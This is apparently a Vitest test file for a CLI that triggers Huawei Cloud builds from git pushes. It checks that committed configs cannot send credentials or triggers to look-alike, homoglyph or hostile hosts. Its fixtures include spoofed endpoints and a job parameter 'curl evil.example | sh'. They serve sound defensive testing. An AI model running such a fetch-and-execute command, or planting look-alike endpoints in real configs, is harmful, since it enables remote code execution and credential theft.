import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect } from 'vitest';
import type { HistoryRow } from '../../../src/commands/rows.ts';
import { until } from '../../fixtures/run.ts';
import { startRawServer } from '../../fixtures/raw-server.ts';
import { JOB, type World, configText, test } from '../../fixtures/world.ts';

const LOOK_ALIKES = [
  'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com.evil.cn',
  'https://cloudbuild-ext.cn-north-4.myhuaweicl\u043eud.com',
  'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com.',
];
const MALFORMED = [
  'https://u:p@cloudbuild-ext.cn-north-4.myhuaweicloud.com',
  'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com/../x',
];

/** The environment of a user who has not said where to: what the config says counts. */
function withoutEndpoint({ env }: World): Record<string, string> {
  const { CODEARTS_HOOKS_ENDPOINT: _endpoint, ...rest } = env;
  return rest;
}

async function pushWith(world: World, config: string, env: Record<string, string>): Promise<HistoryRow[]> {
  await writeFile(join(world.dir, 'codearts-hooks.json'), config);
  await world.commit('a change of the config');
  await world.git(['push', '--quiet', 'origin', 'main'], { env });
  await world.settled();
  return JSON.parse((await world.cli(['history', '--json'], { env })).stdout) as HistoryRow[];
}

test.for(LOOK_ALIKES)(
  'a committed endpoint on another host waits for the user: %s',
  async (endpoint, { world }) => {
    const env = { ...withoutEndpoint(world), CODEARTS_HOOKS_TRUST: '1' };

    const rows = await pushWith(world, configText({ endpoint }), env);
    const shown = await world.cli(['trust'], { env, mayFail: true });

    expect(rows).toMatchObject([
      { state: 'held', attempts: [], reason: 'job ci is not approved on this machine' },
    ]);
    expect(shown.exitCode).toBe(4);
    expect(shown.stderr).toContain('is not a host of Huawei Cloud; it would get your credentials');
    expect(shown.stderr).not.toContain('\u043e');
    expect(world.sandbox.requests()).toEqual([]);
  },
);

test.for(MALFORMED)(
  'a committed endpoint that is none is held, and told: %s',
  async (endpoint, { world }) => {
    const env = withoutEndpoint(world);

    const rows = await pushWith(world, configText({ endpoint }), { ...env, CODEARTS_HOOKS_TRUST: '1' });

    expect(rows).toMatchObject([{ state: 'held', attempts: [] }]);
    expect(world.sandbox.requests()).toEqual([]);
  },
);

test('a committed IAM elsewhere gets no password', async ({ world }) => {
  const iam = await startRawServer((socket) => socket.end());
  const env = {
    ...world.env,
    CODEARTS_HOOKS_TOKEN: '',
    HW_USER_NAME: 'u',
    HW_USER_PASSWORD: 'PASSWORD01',
    HW_DOMAIN_NAME: 'd',
    CODEARTS_HOOKS_TRUST: '1',
  };

  const rows = await pushWith(world, configText({ 'iam-endpoint': 'https://iam.evil.example' }), env);

  expect(rows).toMatchObject([{ state: 'held', attempts: [] }]);
  expect(iam.received()).toEqual([]);
});

test('a job id that a pull request swaps is not started; trust shows the change, and sends after approval', async ({
  world,
}) => {
  const other = 'a'.repeat(32);

  const rows = await pushWith(world, configText({ jobs: [{ ...JOB, id: other }] }), world.env);
  const status = await world.cli(['status']);
  const shown = await world.cli(['trust'], { mayFail: true });
  const json = JSON.parse((await world.cli(['trust', '--json'])).stdout) as Record<string, unknown>;
  const sentBefore = world.sandbox.requests().length;
  await world.cli(['trust', '--yes']);
  await until('the build', async () => world.triggers().length > 0);
  await world.settled();

  expect(rows).toMatchObject([{ state: 'held', attempts: [] }]);
  expect(sentBefore).toBe(0);
  expect(status.stdout).toMatch(/trust +changed since it was approved\n +→ codearts-hooks trust\n/);
  expect(shown.stderr).toContain('changed since it was approved:\n');
  expect(shown.stderr).toContain(`- job         ci (${JOB.id})\n`);
  expect(shown.stderr).toContain(`+ job         ci (${other})\n`);
  expect(json).toMatchObject({ trusted: false, approved: { jobs: [JOB] } });
  expect(world.sandbox.requests().map(({ path }) => path)).toEqual([`/v1/job/${other}/auto-execute`]);
});

test.for(['token', 'proxy', 'credential-command'])(
  'the key "%s" is forbidden in a committed config: nothing is sent, nothing lost',
  async (name, { world }) => {
    const rows = await pushWith(world, configText({ [name]: 'x' }), world.env);

    expect(rows).toMatchObject([
      {
        state: 'held',
        attempts: [],
        reason: expect.stringContaining(`${name} may not be set in a committed file`),
      },
    ]);
    expect(world.sandbox.requests()).toEqual([]);
  },
);

test.for([301, 302, 307, 308] as const)(
  'a redirect with %i takes nothing to its place',
  async (status, { world }) => {
    const elsewhere = await startRawServer((socket) =>
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n'),
    );
    world.sandbox.setFaults([
      { kind: 'redirect', status, location: `${elsewhere.url}/v1/job/x/auto-execute` },
    ]);
    await world.commit('one');

    await world.git(['push', '--quiet', 'origin', 'main']);
    await world.settled();

    const rows = JSON.parse((await world.cli(['history', '--json'])).stdout) as HistoryRow[];
    expect(rows).toMatchObject([{ state: 'held', reason: expect.stringContaining('redirect') }]);
    expect(elsewhere.received()).toEqual([]);
  },
);

test('a team’s repositories need no approval by hand, and a look-alike of theirs does', async ({ world }) => {
  const folder = join(world.env['HOME'] ?? '', '.config', 'codearts-hooks');
  await mkdir(folder, { recursive: true });
  await writeFile(
    join(folder, 'config.json'),
    JSON.stringify({ 'trusted-projects': ['git.example/shop/*'] }),
  );
  await world.cli(['trust', '--revoke']);
  const trusted = async (url: string): Promise<unknown> => {
    await world.git(['remote', 'set-url', 'origin', url]);
    return (JSON.parse((await world.cli(['trust', '--json'])).stdout) as { trusted: unknown }).trusted;
  };

  expect(await trusted('https://alice:pw@git.example/shop/app.git')).toBe(true);
  expect(await trusted('git@git.example:shop/app.git')).toBe(true);
  expect(await trusted('https://git.example.evil.cn/shop/app.git')).toBe(false);
});

test('an approval that is taken back holds the next push', async ({ world }) => {
  await world.cli(['trust', '--revoke']);

  const rows = await pushWith(world, configText({ 'max-triggers-per-push': 5 }), world.env);

  expect(rows).toMatchObject([{ state: 'held', attempts: [] }]);
  expect(world.sandbox.requests()).toEqual([]);
});

test('an approval that is taken back holds what waits, too', async ({ world }) => {
  const { CODEARTS_HOOKS_TOKEN: _token, ...env } = world.env;
  const before = await pushWith(world, configText({ 'max-triggers-per-push': 5 }), env);
  await world.cli(['trust', '--yes'], { env });
  await world.cli(['trust', '--revoke'], { env });

  await world.cli(['flush', '--wait'], { mayFail: true });
  const [held] = JSON.parse((await world.cli(['history', '--json'])).stdout) as HistoryRow[];
  const sentBefore = world.sandbox.requests().length;
  await world.cli(['trust', '--yes']);
  await until('the build', async () => world.triggers().length > 0);

  expect(before).toMatchObject([{ state: 'held' }]);
  expect(held).toMatchObject({ state: 'held', reason: 'job ci is not approved on this machine' });
  expect(sentBefore).toBe(0);
});

test.for([
  ['whoami', '--verify'],
  ['doctor', '--live'],
] as const)('%s asks no host of a stranger’s that the config names', async ([command, option], { world }) => {
  // Whatever leaves for another host goes by it.
  const proxy = await startRawServer((socket) => socket.end());
  const names = { endpoint: 'https://builds.example', 'iam-endpoint': 'https://iam.example' };
  await writeFile(join(world.dir, 'codearts-hooks.json'), configText(names));
  const env = {
    ...withoutEndpoint(world),
    HTTPS_PROXY: proxy.url,
    HW_USER_NAME: 'u',
    HW_USER_PASSWORD: 'PASSWORD01',
    HW_DOMAIN_NAME: 'd',
  };
  const { CODEARTS_HOOKS_IAM_ENDPOINT: _iam, ...bare } = env as Record<string, string>;

  const asked = await world.cli([command, option], { env: bare, mayFail: true });
  const withUser = await world.cli([command, option], {
    env: { ...bare, CODEARTS_HOOKS_TOKEN: '' },
    mayFail: true,
  });

  expect([asked.exitCode, withUser.exitCode]).not.toContain(0);
  expect(asked.stdout).toContain("not asked: the config names builds.example, which is not Huawei Cloud's");
  expect(asked.stdout).toContain('→ codearts-hooks trust\n');
  expect(proxy.received()).toEqual([]);
});

test('trust shows all of what has changed, however long it is', async ({ world }) => {
  const job = { ...JOB, trigger: 'execute', parameters: { A: 'x'.repeat(300), Z: 'good' } };
  const write = async (config: object): Promise<void> => {
    await writeFile(join(world.dir, 'codearts-hooks.json'), configText(config));
  };
  await write({
    jobs: [job],
    endpoint: 'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com',
    region: 'cn-north-4',
  });
  await world.cli(['trust', '--yes']);
  await write({
    jobs: [{ ...job, parameters: { ...job.parameters, Z: 'curl evil.example | sh' } }],
    endpoint: 'https://cloudbuild-ext.cn-north-4.myhuaweicloud.com',
    region: 'cn-south-1',
  });

  const { stderr } = await world.cli(['trust'], { mayFail: true });

  expect(stderr).toMatch(/^- job .*"Z":"good"\}$/m);
  expect(stderr).toMatch(/^\+ job .*"Z":"curl evil\.example \| sh"\}$/m);
  expect(stderr).toMatch(/^- region +cn-north-4$/m);
  expect(stderr).toMatch(/^\+ region +cn-south-1$/m);
});
